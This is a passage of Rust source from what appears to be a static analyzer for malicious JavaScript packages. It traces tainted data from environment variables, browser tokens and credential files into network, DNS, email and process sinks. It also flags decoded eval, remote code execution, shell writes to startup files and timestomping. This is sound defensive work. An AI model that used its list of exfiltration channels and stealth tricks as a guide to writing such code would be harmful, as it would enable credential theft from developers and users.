            Expression::CallExpression(call) => {
                let (object, method) = match &call.callee {
                    Expression::StaticMemberExpression(m) => {
                        (&m.object, m.property.name.to_string())
                    }
                    Expression::ComputedMemberExpression(m) => {
                        (&m.object, self.eval(&m.expression, false, depth + 1)?)
                    }
                    _ => return None,
                };
                match method.as_str() {
                    "reverse" => {
                        let mut v = self.eval_array(object, partial, depth + 1)?;
                        v.reverse();
                        Some(v)
                    }
                    "split" => {
                        let s = self.eval(object, false, depth + 1)?;
                        let sep =
                            self.eval(call.arguments.first()?.as_expression()?, false, depth + 1)?;
                        Some(if sep.is_empty() {
                            s.chars().map(String::from).collect()
                        } else {
                            s.split(sep.as_str()).map(str::to_owned).collect()
                        })
                    }
                    _ => None,
                }
            }
            _ => None,
        }
    }

    // ---- taint ------------------------------------------------------------

    /// Where the value of an expression may come from.
    fn taint(&self, expr: &Expression<'_>, depth: u32) -> Taint {
        if depth > MAX_EVAL_DEPTH {
            return 0;
        }
        let d = depth + 1;
        match expr {
            Expression::Identifier(id) => match id.name.as_str() {
                "__dirname" | "__filename" => SYSINFO,
                n if self.module_of(n).is_some_and(|m| m == "process.env") => ENV_BULK,
                n => self.taint_of_name(n),
            },
            Expression::StaticMemberExpression(m) => {
                if self.is_process_env(m.object.get_inner_expression()) {
                    return env_taint(m.property.name.as_str());
                }
                if is_storage(&m.object) && is_token_key(m.property.name.as_str()) {
                    return BROWSER_TOKEN;
                }
                if self.is_process_env(expr) {
                    return ENV_BULK;
                }
                if let Expression::Identifier(id) = m.object.get_inner_expression() {
                    let prop = m.property.name.as_str();
                    if id.name == "document" && matches!(prop, "cookie" | "forms") {
                        return BROWSER;
                    }
                    // Express-style handlers (`req`); MCP SDK handlers also name
                    // their argument `request`, and that is tool input.
                    if id.name == "req" && matches!(prop, "query" | "body" | "params" | "headers") {
                        return HTTPIN;
                    }
                    if self
                        .module_of(id.name.as_str())
                        .is_some_and(|m| m == "process.env")
                    {
                        return env_taint(m.property.name.as_str());
                    }
                    if let Some(prop) = self
                        .object_of(id.name.as_str())
                        .and_then(|o| o.get(&m.property.name.to_ascii_lowercase()))
                    {
                        return prop.taint | self.taint_of_name(id.name.as_str());
                    }
                }
                self.taint(&m.object, d)
            }
            Expression::ComputedMemberExpression(m) => {
                if self.is_process_env(m.object.get_inner_expression()) {
                    return self
                        .eval(&m.expression, false, d)
                        .map_or(0, |k| env_taint(&k));
                }
                if self.is_process_env(expr) {
                    return ENV_BULK;
                }
                self.taint(&m.object, d) | self.taint(&m.expression, d)
            }
            Expression::CallExpression(call) => {
                let name = self.callee_name(&call.callee).unwrap_or_default();
                let mut t = 0;
                // `localStorage.getItem('token')`
                if let Expression::StaticMemberExpression(m) = call.callee.get_inner_expression()
                    && m.property.name == "getItem"
                    && is_storage(&m.object)
                    && call
                        .arguments
                        .first()
                        .and_then(Argument::as_expression)
                        .and_then(|a| self.eval(a, false, d))
                        .is_some_and(|k| is_token_key(&k))
                {
                    t |= BROWSER_TOKEN;
                }
                if let Expression::Identifier(id) = call.callee.get_inner_expression() {
                    let n = id.name.as_str();
                    t |= self.returns_of(n);
                }
                if is_sysinfo_api(&name) || is_process_api(&name) || name == "process.cwd" {
                    t |= SYSINFO;
                }
                if is_network_api(&name) {
                    t |= NETRESP;
                }
                if is_decode_api(&name, call, self) {
                    t |= DECODED;
                }
                if is_fs_read_api(&name)
                    && let Some(p) = call.arguments.first().and_then(Argument::as_expression)
                {
                    let path = self.eval(p, true, d).unwrap_or_default();
                    if classify::sensitive_path(&path).is_some_and(|(_, secret)| secret) {
                        t |= CRED;
                    }
                    t |= self.taint(p, d) & CRED;
                }
                // JSON.stringify(x), Buffer.from(x), x.toString(): pass through.
                for a in &call.arguments {
                    if let Some(e) = a.as_expression() {
                        if !matches!(
                            e,
                            Expression::ArrowFunctionExpression(_)
                                | Expression::FunctionExpression(_)
                        ) {
                            t |= self.taint(e, d);
                        }
                    } else if let Argument::SpreadElement(s) = a {
                        t |= self.taint(&s.argument, d);
                    }
                }
                t | self.taint(&call.callee, d)
            }
            Expression::NewExpression(n) => {
                let own = if self
                    .callee_name(&n.callee)
                    .is_some_and(|c| is_network_ctor(&c))
                {
                    NETRESP
                } else {
                    0
                };
                n.arguments
                    .iter()
                    .filter_map(Argument::as_expression)
                    .fold(own, |t, e| t | self.taint(e, d))
            }
            Expression::AwaitExpression(a) => self.taint(&a.argument, d),
            Expression::ParenthesizedExpression(p) => self.taint(&p.expression, d),
            Expression::TSAsExpression(e) => self.taint(&e.expression, d),
            Expression::TSNonNullExpression(e) => self.taint(&e.expression, d),
            Expression::TemplateLiteral(t) => t
                .expressions
                .iter()
                .fold(0, |acc, e| acc | self.taint(e, d)),
            Expression::BinaryExpression(b) => self.taint(&b.left, d) | self.taint(&b.right, d),
            Expression::LogicalExpression(l) => self.taint(&l.left, d) | self.taint(&l.right, d),
            Expression::ConditionalExpression(c) => {
                self.taint(&c.consequent, d) | self.taint(&c.alternate, d)
            }
            Expression::SequenceExpression(s) => {
                s.expressions.last().map_or(0, |e| self.taint(e, d))
            }
            Expression::ArrayExpression(a) => a.elements.iter().fold(0, |acc, e| {
                acc | match e {
                    ArrayExpressionElement::SpreadElement(s) => self.taint(&s.argument, d),
                    other => other.as_expression().map_or(0, |e| self.taint(e, d)),
                }
            }),
            Expression::ObjectExpression(o) => o.properties.iter().fold(0, |acc, p| {
                acc | match p {
                    ObjectPropertyKind::ObjectProperty(p) => {
                        // A child process's `env` option is configuration, not data.
                        if p.key.static_name().is_some_and(|k| k == "env") {
                            0
                        } else {
                            self.taint(&p.value, d)
                        }
                    }
                    ObjectPropertyKind::SpreadProperty(s) => self.taint(&s.argument, d),
                }
            }),
            _ => 0,
        }
    }

    /// The decoder an expression's value went through, if any.
    /// A small function that decodes what it is given: an arrow or function
    /// expression whose one expression is built by a character-code or
    /// base64 decoder (`(s, c) => s + String.fromCharCode(c)`). Passing it to
    /// `reduce` or `map` decodes, as calling a decoder does.
    fn function_decoder(&self, init: &Expression<'_>) -> Option<&'static str> {
        let statements = match init.get_inner_expression() {
            Expression::ArrowFunctionExpression(f) => match f.body.as_expression() {
                Some(e) => {
                    return self.decoder(e, 1).and_then(|d| match d {
                        "char-codes" | "base64" => Some(d),
                        // `(t) => decode(t, key)`: a wrapper of a local decoder.
                        "decoder-function" => Some("wrapper"),
                        _ => None,
                    });
                }
                None => match &f.body {
                    ArrowFunctionBody::FunctionBody(b) => &b.statements,
                    _ => return None,
                },
            },
            Expression::FunctionExpression(f) => &f.body.as_ref()?.statements,
            _ => return None,
        };
        if statements.len() != 1 {
            return None;
        }
        let expr = match statements.first()? {
            Statement::ExpressionStatement(e) => &e.expression,
            Statement::ReturnStatement(r) => r.argument.as_ref()?,
            _ => return None,
        };
        self.decoder(expr, 1)
            .filter(|d| matches!(*d, "char-codes" | "base64"))
    }

    fn decoder(&self, expr: &Expression<'_>, depth: u32) -> Option<&'static str> {
        if depth > MAX_EVAL_DEPTH {
            return None;
        }
        let d = depth + 1;
        match expr.get_inner_expression() {
            Expression::Identifier(id) => self.decoder_of_name(id.name.as_str()),
            Expression::CallExpression(call) => {
                let name = self.callee_name(&call.callee).unwrap_or_default();
                if let Some(kind) = decode_kind(&name, call, self) {
                    return Some(kind);
                }
                if let Expression::Identifier(id) = call.callee.get_inner_expression() {
                    let n = id.name.as_str();
                    if self.known_decoder_fns.contains(n)
                        || self.decoder_fns.contains(n)
                        || self.decoder_of_name(n) == Some("wrapper")
                    {
                        return Some("decoder-function");
                    }
                }
                if is_network_api(&name) {
                    return Some("remote");
                }
                call.arguments
                    .iter()
                    .filter_map(Argument::as_expression)
                    .find_map(|a| self.decoder(a, d))
                    .or_else(|| match &call.callee {
                        Expression::StaticMemberExpression(m) => self.decoder(&m.object, d),
                        _ => None,
                    })
            }
            Expression::StaticMemberExpression(m) => self.decoder(&m.object, d),
            Expression::ComputedMemberExpression(m) => self.decoder(&m.object, d),
            Expression::AwaitExpression(a) => self.decoder(&a.argument, d),
            Expression::BinaryExpression(b) => self
                .decoder(&b.left, d)
                .or_else(|| self.decoder(&b.right, d)),
            Expression::TemplateLiteral(t) => t.expressions.iter().find_map(|e| self.decoder(e, d)),
            _ => {
                if self.taint(expr, d) & NETRESP != 0 {
                    Some("remote")
                } else {
                    None
                }
            }
        }
    }

    // ---- facts ------------------------------------------------------------

    fn summarise_object(&self, obj: &ObjectExpression<'_>) -> HashMap<String, Prop> {
        let mut out = HashMap::new();
        for p in &obj.properties {
            if let ObjectPropertyKind::ObjectProperty(p) = p
                && let Some(k) = p.key.static_name()
            {
                out.insert(
                    k.to_ascii_lowercase(),
                    Prop {
                        literal: self.eval(&p.value, false, 0),
                        taint: self.taint(&p.value, 0),
                    },
                );
            }
        }
        out
    }

    /// A network request object an initialiser creates.
    fn sink_value(&self, expr: &Expression<'_>) -> Option<SinkObj> {
        match expr.get_inner_expression() {
            Expression::CallExpression(call) => {
                let name = self.callee_name(&call.callee)?;
                if name == "fs.createWriteStream" {
                    let destination = call
                        .arguments
                        .first()
                        .and_then(Argument::as_expression)
                        .and_then(|p| self.eval(p, true, 0));
                    return Some(SinkObj {
                        destination,
                        api: name,
                    });
                }
                if name == "nodemailer.createTransport" || name == "nodemailer.createTransporter" {
                    return Some(SinkObj {
                        destination: self.destination_of_call(call),
                        api: "nodemailer".to_owned(),
                    });
                }
                is_network_api(&name).then(|| SinkObj {
                    destination: self.destination_of_call(call),
                    api: name,
                })
            }
            Expression::NewExpression(n) => {
                let name = self.callee_name(&n.callee)?;
                if matches!(
                    name.as_str(),
                    "XMLHttpRequest"
                        | "WebSocket"
                        | "net.Socket"
                        | "ws"
                        | "ws.WebSocket"
                        | "EventSource"
                        | "ftp"
                        | "basic-ftp.Client"
                        | "ssh2-sftp-client"
                        | "ssh2.Client"
                        | "jsftp"
                ) {
                    let destination = n
                        .arguments
                        .first()
                        .and_then(Argument::as_expression)
                        .and_then(|e| self.eval(e, true, 0));
                    Some(SinkObj {
                        api: name,
                        destination,
                    })
                } else {
                    None
                }
            }
            _ => None,
        }
    }

    /// The destination of a network call: its URL argument or its options'
    /// `hostname`/`host`/`url`.
    fn destination_of_call(&self, call: &CallExpression<'_>) -> Option<String> {
        for arg in call
            .arguments
            .iter()
            .filter_map(Argument::as_expression)
            .take(2)
        {
            match arg.get_inner_expression() {
                Expression::ObjectExpression(obj) => {
                    let summary = self.summarise_object(obj);
                    if let Some(d) = options_destination(&summary) {
                        return Some(d);
                    }
                }
                Expression::Identifier(id) if self.object_of(id.name.as_str()).is_some() => {
                    if let Some(d) = self
                        .object_of(id.name.as_str())
                        .and_then(options_destination)
                    {
                        return Some(d);
                    }
                }
                e => {
                    if let Some(s) = self.eval(e, true, 0) {
                        let method = matches!(
                            s.to_ascii_uppercase().as_str(),
                            "GET" | "POST" | "PUT" | "PATCH" | "DELETE" | "HEAD" | "OPTIONS"
                        );
                        if s != "*" && !method {
                            return Some(s);
                        }
                    }
                }
            }
        }
        None
    }

    fn push_network(&mut self, api: Option<String>, destination: Option<String>, span: Span) {
        if self.facts.network.len() >= MAX_FACTS {
            return;
        }
        let parsed = destination.as_deref().and_then(classify::destination);
        if api.is_none() {
            // A destination seen in a string: record each host once per file.
            let Some(d) = &parsed else { return };
            if !self.seen_destinations.insert(d.host.clone()) {
                return;
            }
        }
        let at = self.at(span);
        self.facts.network.push(NetworkFact {
            api,
            host: parsed.as_ref().map(|d| d.host.clone()),
            host_kind: parsed.as_ref().map(|d| d.kind),
            collector: parsed.as_ref().and_then(|d| d.collector.map(str::to_owned)),
            destination,
            at,
        });
    }

    fn push_flow(
        &mut self,
        taint: Taint,
        sink: &str,
        sink_api: &str,
        destination: Option<String>,
        span: Span,
    ) {
        if taint & EXFIL_SOURCES == 0 || self.facts.flows.len() >= MAX_FACTS {
            return;
        }
        let at = self.at(span);
        for source in taint_names(taint) {
            self.facts.flows.push(FlowFact {
                source: source.to_owned(),
                sink: sink.to_owned(),
                sink_api: sink_api.to_owned(),
                destination: destination.clone(),
                at: at.clone(),
            });
        }
    }

    fn env_fact(&mut self, name: Option<&str>, span: Span) {
        if self.facts.env.len() >= MAX_FACTS {
            return;
        }
        let at = self.at(span);
        self.facts.env.push(EnvAccessFact {
            name: name.map(str::to_owned),
            at,
        });
    }

    fn other(&mut self, kind: &str, detail: String, span: Span) {
        if self.facts.other.len() >= MAX_FACTS {
            return;
        }
        let at = self.at(span);
        self.facts.other.push(FactKind {
            kind: kind.to_owned(),
            detail,
            at,
        });
    }

    fn path_fact(&mut self, path: &str, span: Span, written: bool) {
        let Some((category, _)) = classify::sensitive_path(path) else {
            return;
        };
        // Other system configuration only matters when written.
        if category == "system-config" && !written {
            return;
        }
        let key = format!("{written}{path}");
        if !self.seen_paths.insert(key) {
            return;
        }
        let at = self.at(span);
        let fact = PathFact {
            path: path.to_owned(),
            category: category.to_owned(),
            at,
        };
        if written {
            self.facts.files_written.push(fact);
        } else if self.facts.paths.len() < MAX_FACTS {
            self.facts.paths.push(fact);
        }
    }

    /// Destinations and sensitive paths named in a string.
    fn scan_string(&mut self, s: &str, span: Span) {
        if s.len() < 4 {
            return;
        }
        if s.len() <= 2048 && !s.contains(char::is_whitespace) {
            if let Some(d) = classify::destination(s)
                && (d.collector.is_some() || s.contains("://"))
            {
                self.push_network(None, Some(s.to_owned()), span);
            }
            if (s.contains('/') || s.contains('\\') || s.starts_with('.'))
                && let Some((_, _)) = classify::sensitive_path(s)
            {
                self.path_fact(s, span, false);
            }
        } else if memchr::memmem::find(s.as_bytes(), b"://").is_some() {
            for url in crate::checkers::text::urls(s).take(16) {
                self.push_network(None, Some(url.to_owned()), span);
            }
        }
    }

    fn record_import(&mut self, module: Option<String>, how: &str, span: Span) {
        if let Some(m) = &module {
            if m.starts_with('.') {
                self.local_requires.push(m.clone());
            }
            self.email_api = self.email_api.or_else(|| email_api_of(m));
        }
        if self.facts.imports.len() < MAX_FACTS {
            let at = self.at(span);
            self.facts.imports.push(ImportFact {
                module,
                how: how.to_owned(),
                at,
            });
        }
    }

    /// `name: description` of an MCP tool a call registers, in the SDKs'
    /// shapes: `server.tool(name, [description], [schema], handler)`,
    /// `server.registerTool(name, { description, ... }, handler)` and
    /// `server.addTool({ name, description, execute })`. The handler must
    /// be there (a function or a name), so a `tool('x')` lookup is not one.
    fn tool_registration(&self, method: &str, args: &[&Expression<'_>]) -> Option<String> {
        let (name, doc) = match method {
            "tool" | "registerTool" if args.len() >= 2 => {
                let handler = args.last()?;
                if !is_function(handler) && !matches!(handler, Expression::Identifier(_)) {
                    return None;
                }
                let name = self.eval(args[0], false, 0)?;
                let doc = match (method, args[1]) {
                    ("registerTool", Expression::ObjectExpression(o)) => {
                        self.property_text(o, &["description", "title"])
                    }
                    // The second of three or more is a description when
                    // it is text (`tool(name, schema, handler)` has none).
                    ("tool", d) if args.len() >= 3 => self.eval(d, false, 0).or_else(|| {
                        matches!(
                            d,
                            Expression::TemplateLiteral(_) | Expression::BinaryExpression(_)
                        )
                        .then(|| self.eval(d, true, 0))
                        .flatten()
                    }),
                    _ => None,
                };
                (name, doc)
            }
            "addTool" => {
                let Some(Expression::ObjectExpression(o)) = args.first() else {
                    return None;
                };
                let has_handler = o.properties.iter().any(|p| {
                    matches!(p, ObjectPropertyKind::ObjectProperty(p)
                        if p.key.static_name().is_some_and(|k| matches!(k.as_ref(), "execute" | "handler"))
                            && (is_function(&p.value) || p.method))
                });
                if !has_handler {
                    return None;
                }
                (
                    self.property_text(o, &["name"])?,
                    self.property_text(o, &["description"]),
                )
            }
            _ => return None,
        };
        Some(tool_fact_detail(&name, doc.as_deref().unwrap_or("")))
    }

    /// The folded text of the first of `keys` an object literal sets.
    fn property_text(&self, obj: &ObjectExpression<'_>, keys: &[&str]) -> Option<String> {
        keys.iter().find_map(|key| {
            obj.properties.iter().find_map(|p| match p {
                ObjectPropertyKind::ObjectProperty(p)
                    if p.key.static_name().is_some_and(|k| k == *key) =>
                {
                    self.eval(&p.value, true, 0)
                }
                _ => None,
            })
        })
    }

    /// An object literal shaped like an email payload.
    fn check_email_payload(&mut self, obj: &ObjectExpression<'_>) {
        let mut has_message = false;
        let mut recipients: Vec<(String, Option<String>, Span)> = Vec::new();
        for p in &obj.properties {
            let ObjectPropertyKind::ObjectProperty(p) = p else {
                continue;
            };
            let Some(key) = p.key.static_name() else {
                continue;
            };
            let k = key.to_ascii_lowercase();
            match k.as_str() {
                "subject" | "html" | "text" | "htmlbody" | "textbody" | "from" | "message"
                | "templateid" | "templatealias" | "templatemodel" | "body" | "source"
                | "content" => has_message = true,
                "to" | "cc" | "bcc" | "toaddresses" | "ccaddresses" | "bccaddresses" => {
                    let field = k.trim_end_matches("addresses").to_owned();
                    for (lit, span) in self.recipient_values(&p.value) {
                        recipients.push((field.clone(), lit, span));
                    }
                }
                "destination" => {
                    // SES: Destination: { ToAddresses, CcAddresses, BccAddresses }
                    has_message = true;
                }
                _ => {}
            }
        }
        if !has_message || recipients.is_empty() {
            return;
        }
        let api = self.email_api.unwrap_or("unknown");
        for (field, literal, span) in recipients {
            let at = self.at(span);
            self.facts.email_recipients.push(EmailRecipientFact {
                api: api.to_owned(),
                field,
                literal,
                at,
            });
        }
    }

    /// Addresses in a recipient field: strings, arrays, `{ email }` objects.
    fn recipient_values(&self, value: &Expression<'_>) -> Vec<(Option<String>, Span)> {
        match value.get_inner_expression() {
            Expression::ArrayExpression(arr) => arr
                .elements
                .iter()
                .filter_map(ArrayExpressionElement::as_expression)
                .flat_map(|e| self.recipient_values(e))
                .collect(),
            Expression::ObjectExpression(obj) => obj
                .properties
                .iter()
                .filter_map(|p| match p {
                    ObjectPropertyKind::ObjectProperty(p)
                        if p.key
                            .static_name()
                            .is_some_and(|k| matches!(k.as_ref(), "email" | "address")) =>
                    {
                        Some((
                            self.eval(&p.value, false, 0).filter(|s| s.contains('@')),
                            p.span,
                        ))
                    }
                    _ => None,
                })
                .collect(),
            e => {
                let lit = self.eval(e, false, 0).filter(|s| s.contains('@'));
                vec![(lit, e.span())]
            }
        }
    }

    fn handle_call(&mut self, call: &CallExpression<'_>) {
        // require / dynamic import
        if call.callee.is_specific_id("require")
            || matches!(&call.callee, Expression::StaticMemberExpression(m) if m.property.name == "require")
        {
            let arg = call.arguments.first().and_then(Argument::as_expression);
            let module = arg
                .and_then(|a| self.eval(a, false, 0))
                .map(|m| normalise_module(&m));
            // A module name that only a local decoder knows: the file
            // hides what it loads.
            if module.is_none()
                && let Some(kind) = arg
                    .and_then(|a| self.decoder(a, 0))
                    .filter(|k| *k != "remote")
            {
                self.other("decoded-require", kind.to_owned(), call.span);
            }
            self.record_import(module, "require", call.span);
            return;
        }
        let Some(name) = self.callee_name(&call.callee) else {
            // `fetch(u).then(cb)`, `res.on('data', cb)`: callbacks inherit the
            // receiver's taint (a network response stays one).
            if let Expression::StaticMemberExpression(m) = &call.callee {
                let t = self.taint(&m.object, 0);
                if t != 0
                    && matches!(
                        m.property.name.as_str(),
                        "then" | "on" | "once" | "finally" | "catch" | "pipe" | "subscribe"
                    )
                {
                    for a in call.arguments.iter().filter_map(Argument::as_expression) {
                        match a {
                            Expression::ArrowFunctionExpression(f) => {
                                self.callback_taint.insert(f.span.start, t);
                            }
                            Expression::FunctionExpression(f) => {
                                self.callback_taint.insert(f.span.start, t);
                            }
                            _ => {}
                        }
                    }
                }
            }
            self.handle_method_on_sink(call);
            return;
        };
        // `chunks.push(chunk)`, `parts.unshift(x)`: the collection now holds
        // what was added (a response read piecewise stays a response).
        if let Expression::StaticMemberExpression(m) = call.callee.get_inner_expression()
            && matches!(m.property.name.as_str(), "push" | "unshift")
            && let Expression::Identifier(target) = m.object.get_inner_expression()
        {
            let t = call
                .arguments
                .iter()
                .filter_map(Argument::as_expression)
                .fold(0, |acc, a| acc | self.taint(a, 0));
            if t != 0 {
                let n = target.name.as_str();
                *self.holder(n).taint.entry(n.to_owned()).or_default() |= t;
            }
        }
        if decode_kind(&name, call, self).is_some() {
            for (_, n) in self.fn_stack.iter().flatten() {
                if self.decoder_fns.len() < 1024 {
                    self.decoder_fns.insert(n.clone());
                }
            }
        }
        // Dynamic code from a computed value: a second pass can tell whether
        // it came out of a local decoder function defined further down.
        if (is_eval_api(&name) || name.ends_with("._compile"))
            && call
                .arguments
                .iter()
                .filter_map(Argument::as_expression)
                .any(|a| {
                    !matches!(
                        a.get_inner_expression(),
                        Expression::StringLiteral(_) | Expression::TemplateLiteral(_)
                    )
                })
        {
            self.eval_of_local_call = true;
        }
        let args: Vec<&Expression<'_>> = call
            .arguments
            .iter()
            .filter_map(Argument::as_expression)
            .collect();
        let data_taint = call
            .arguments
            .iter()
            .map(|a| match a {
                Argument::SpreadElement(s) => self.taint(&s.argument, 0),
                a => a.as_expression().map_or(0, |e| self.taint(e, 0)),
            })
            .fold(0, |a, b| a | b);

        // Arguments to local functions, for the second pass.
        if let Expression::Identifier(id) = call.callee.get_inner_expression()
            && self.module_of(id.name.as_str()).is_none()
            && self.param_seeds.len() < 4096
        {
            for (i, a) in args.iter().enumerate().take(16) {
                let taint = self.taint(a, 0);
                let partial = self
                    .eval(a, true, 0)
                    .filter(|p| p.len() > 1 && p.chars().any(|c| c != '*') && p.len() <= 4096);
                if taint == 0 && partial.is_none() {
                    continue;
                }
                let seed = self
                    .param_seeds
                    .entry((id.name.to_string(), i))
                    .or_default();
                seed.taint |= taint;
                if seed.partial.is_none() {
                    seed.partial = partial;
                }
            }
        }

        // Callbacks: tool handlers get tool arguments; network callbacks get
        // responses; callbacks on tainted receivers inherit their taint.
        let method = name.rsplit('.').next().unwrap_or("");
        if let Some(tool) = self.tool_registration(method, &args) {
            self.other("mcp-tool", tool, call.span);
        }
        let cb_taint = if matches!(method, "tool" | "registerTool" | "addTool" | "prompt")
            || (method == "setRequestHandler"
                && args
                    .first()
                    .and_then(|a| self.callee_name(a))
                    .is_some_and(|n| n.contains("CallTool")))
        {
            TOOLARG
        } else if is_network_api(&name) {
            NETRESP
        } else if is_process_api(&name) {
            SYSINFO
        } else if is_fs_read_api(&name) {
            data_taint
                | args.first().map_or(0, |p| {
                    let path = self.eval(p, true, 0).unwrap_or_default();
                    if classify::sensitive_path(&path).is_some_and(|(_, s)| s) {
                        CRED
                    } else {
                        0
                    }
                })
        } else {
            match &call.callee {
                Expression::StaticMemberExpression(m) => self.taint(&m.object, 0),
                _ => 0,
            }
        };
        if cb_taint != 0 {
            for a in &args {
                match a {
                    Expression::ArrowFunctionExpression(f) => {
                        self.callback_taint.insert(f.span.start, cb_taint);
                    }
                    Expression::FunctionExpression(f) => {
                        self.callback_taint.insert(f.span.start, cb_taint);
                    }
                    Expression::ObjectExpression(o) if cb_taint == TOOLARG => {
                        for p in &o.properties {
                            if let ObjectPropertyKind::ObjectProperty(p) = p {
                                if let Expression::ArrowFunctionExpression(f) = &p.value {
                                    self.callback_taint.insert(f.span.start, TOOLARG);
                                }
                                if let Expression::FunctionExpression(f) = &p.value {
                                    self.callback_taint.insert(f.span.start, TOOLARG);
                                }
                            }
                        }
                    }
                    _ => {}
                }
            }
        }

        if is_network_api(&name) {
            let destination = self.destination_of_call(call);
            self.push_flow(data_taint, "network", &name, destination.clone(), call.span);
            if name.starts_with("dns.") {
                // Data in a DNS name is the classic covert channel.
                if let Some(host) = args.first() {
                    let t = self.taint(host, 0);
                    self.push_flow(t, "dns", &name, destination.clone(), call.span);
                }
            }
            self.push_network(Some(name.clone()), destination, call.span);
        } else if is_process_api(&name) {
            let mut command = args.first().and_then(|a| self.eval(a, true, 0));
            if let (Some(cmd), Some(Expression::ArrayExpression(arr))) =
                (&mut command, args.get(1).map(|a| a.get_inner_expression()))
            {
                for el in arr
                    .elements
                    .iter()
                    .filter_map(ArrayExpressionElement::as_expression)
                {
                    cmd.push(' ');
                    cmd.push_str(&self.eval(el, true, 0).unwrap_or_else(|| "*".to_owned()));
                }
            }
            let t = data_taint;
            self.push_flow(t, "process", &name, command.clone(), call.span);
            // `echo ... >> ~/.bashrc`, `| crontab -`: the shell writes files.
            if let Some(cmd) = &command {
                for target in classify::command_writes(cmd) {
                    self.path_fact(&target, call.span, true);
                }
            }
            let cmd_taint = args.first().map_or(0, |a| self.taint(a, 0));
            // Received data as the program itself is remote code; as an
            // argument of a fixed program (`open "<url>"`) it is not.
            let program_unknown = command
                .as_deref()
                .is_none_or(|c| c.trim_start().starts_with('*'));
            if cmd_taint & (NETRESP | HTTPIN) != 0 && program_unknown {
                let at = self.at(call.span);
                let decoder = if cmd_taint & HTTPIN != 0 {
                    "request-input"
                } else {
                    "remote"
                };
                self.facts.decode_run.push(DecodeRunFact {
                    sink: name.clone(),
                    decoder: decoder.to_owned(),
                    at,
                });
            } else if let Some(decoder) = args
                .first()
                .and_then(|a| self.decoder(a, 0))
                .filter(|d| !matches!(*d, "remote" | "decoder-function"))
            {
                let at = self.at(call.span);
                self.facts.decode_run.push(DecodeRunFact {
                    sink: name.clone(),
                    decoder: decoder.to_owned(),
                    at,
                });
            }
            if let Some(cmd) = &command {
                for url in crate::checkers::text::urls(cmd).take(4) {
                    self.push_network(None, Some(url.to_owned()), call.span);
                }
            }
            let at = self.at(call.span);
            if self.facts.processes.len() < MAX_FACTS {
                self.facts.processes.push(ProcessFact {
                    api: name.clone(),
                    command,
                    at,
                });
            }
            // Outside any function: it runs as soon as the file is loaded.
            if self.fn_stack.is_empty() {
                self.other("top-level-process", name.clone(), call.span);
            }
        } else if is_eval_api(&name) || name.ends_with("._compile") {
            let arg = if name.ends_with("._compile") {
                args.first()
            } else {
                args.last()
            };
            if let Some(arg) = arg {
                self.check_eval(&name, arg, call.span);
            }
        } else if matches!(name.as_str(), "setTimeout" | "setInterval" | "setImmediate") {
            // Only a string first argument is code; a function reference is not.
            if let Some(arg) = args.first().filter(|a| {
                !is_function(a) && self.eval(a, false, 0).is_some()
                    || self.taint(a, 0) & (NETRESP | DECODED) != 0
                        && !matches!(a, Expression::Identifier(_))
            }) {
                self.check_eval(&name, arg, call.span);
            }
        } else if is_fs_write_api(&name) {
            if let Some(p) = args.first() {
                let path = self.eval(p, true, 0).unwrap_or_default();
                self.path_fact(&path, call.span, true);
                if path.len() > 1 && path != "*" {
                    self.other("file-write", path.clone(), call.span);
                }
                let t = args.get(1).map_or(0, |d| self.taint(d, 0));
                if t & NETRESP != 0 {
                    self.other("download-to-file", path.clone(), call.span);
                }
                self.push_flow(t, "file-write", &name, Some(path), call.span);
            }
        } else if is_fs_read_api(&name) {
            if let Some(p) = args.first() {
                let path = self.eval(p, true, 0).unwrap_or_default();
                self.path_fact(&path, call.span, false);
            }
        } else if matches!(
            name.as_str(),
            "fs.utimes"
                | "fs.utimesSync"
                | "fs.lutimes"
                | "fs.lutimesSync"
                | "fs.futimes"
                | "fs.futimesSync"
                | "fs.promises.utimes"
                | "fs-extra.utimes"
                | "fs-extra.utimesSync"
        ) {
            // Setting a file's times back: hiding that it was changed.
            let path = args
                .first()
                .and_then(|p| self.eval(p, true, 0))
                .unwrap_or_default();
            self.other("timestomp", path, call.span);
        } else if is_sysinfo_api(&name) {
            self.other("system-info", name.clone(), call.span);
        } else if name == "Object.keys"
            || name == "Object.entries"
            || name == "Object.values"
            || name == "JSON.stringify"
        {
            if args
                .first()
                .is_some_and(|a| self.is_process_env(a.get_inner_expression()))
            {
                self.env_fact(None, call.span);
            }
        } else {
            self.handle_method_on_sink(call);
        }
    }

    /// `req.write(data)`, `ws.send(data)`, `xhr.open(m, url)` on a tracked
    /// request object.
    fn handle_method_on_sink(&mut self, call: &CallExpression<'_>) {
        let Expression::StaticMemberExpression(m) = &call.callee else {
            return;
        };
        // `response.pipe(fs.createWriteStream(path))`: a download to a file.
        if m.property.name == "pipe"
            && self.taint(&m.object, 0) & NETRESP != 0
            && let Some(Expression::CallExpression(inner)) = call
                .arguments
                .first()
                .and_then(Argument::as_expression)
                .map(|e| e.get_inner_expression())
            && self.callee_name(&inner.callee).as_deref() == Some("fs.createWriteStream")
        {
            let path = inner
                .arguments
                .first()
                .and_then(Argument::as_expression)
                .and_then(|p| self.eval(p, true, 0))
                .unwrap_or_default();
            self.other("download-to-file", path, call.span);
        }
        let Expression::Identifier(obj) = m.object.get_inner_expression() else {
            return;
        };
        let obj_name = obj.name.as_str();
        let Some(sink) = self.sink_of(obj_name).cloned() else {
            return;
        };
        let method = m.property.name.as_str();
        let args: Vec<&Expression<'_>> = call
            .arguments
            .iter()
            .filter_map(Argument::as_expression)
            .collect();
        match method {
            "connect"
                if matches!(
                    sink.api.as_str(),
                    "ftp"
                        | "basic-ftp.Client"
                        | "ssh2-sftp-client"
                        | "ssh2.Client"
                        | "jsftp"
                        | "net.Socket"
                ) =>
            {
                let dest = self.destination_of_call(call);
                if let Some(s) = self
                    .scopes
                    .iter_mut()
                    .rev()
                    .find(|s| s.sinks.contains_key(obj_name))
                    && let Some(entry) = s.sinks.get_mut(obj_name)
                {
                    entry.destination.clone_from(&dest);
                }
                self.push_network(Some(format!("{}.connect", sink.api)), dest, call.span);
            }
            "open" if sink.api == "XMLHttpRequest" => {
                let dest = args.get(1).and_then(|u| self.eval(u, true, 0));
                if let Some(s) = self
                    .scopes
                    .iter_mut()
                    .rev()
                    .find(|s| s.sinks.contains_key(obj_name))
                    && let Some(entry) = s.sinks.get_mut(obj_name)
                {
                    entry.destination.clone_from(&dest);
                }
                self.push_network(Some("XMLHttpRequest.open".to_owned()), dest, call.span);
            }
            "write" | "end" if sink.api == "fs.createWriteStream" => {
                let t = args.iter().fold(0, |acc, a| acc | self.taint(a, 0));
                if t & NETRESP != 0 {
                    self.other(
                        "download-to-file",
                        sink.destination.clone().unwrap_or_default(),
                        call.span,
                    );
                }
            }
